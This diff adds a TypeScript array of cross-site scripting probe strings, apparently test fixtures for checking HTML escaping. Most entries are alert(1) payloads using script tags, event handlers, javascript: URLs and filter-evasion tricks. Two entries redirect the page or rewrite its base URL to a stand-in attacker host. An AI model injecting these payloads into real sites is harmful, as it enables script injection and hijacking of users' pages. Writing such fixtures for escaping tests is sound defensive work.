@@ -1,0 +1,23 @@
+/** What breaks out of a text, an attribute, a style or a script where nothing is escaped. */
+export const hostileWords = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "</title><script>alert(1)</script>",
+  "</style><script>alert(1)</script>",
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '" autofocus onfocus=alert(1) x="',
+  "' onmouseover='alert(1)",
+  "`onclick=alert(1)",
+  "<a href=javascript:alert(1)>x</a>",
+  "<iframe srcdoc='<script>alert(1)</script>'>",
+  "<!--><script>alert(1)</script>-->",
+  "<scr\0ipt>alert(1)</scr\0ipt>",
+  "&lt;script&gt;",
+  "<base href=//evil.example>",
+  "<meta http-equiv=refresh content=0;url=//evil.example>",
+  "<<script>script>alert(1)",
+  "\u003cscript\u003ealert(1)",
+  "${alert(1)}",
+];
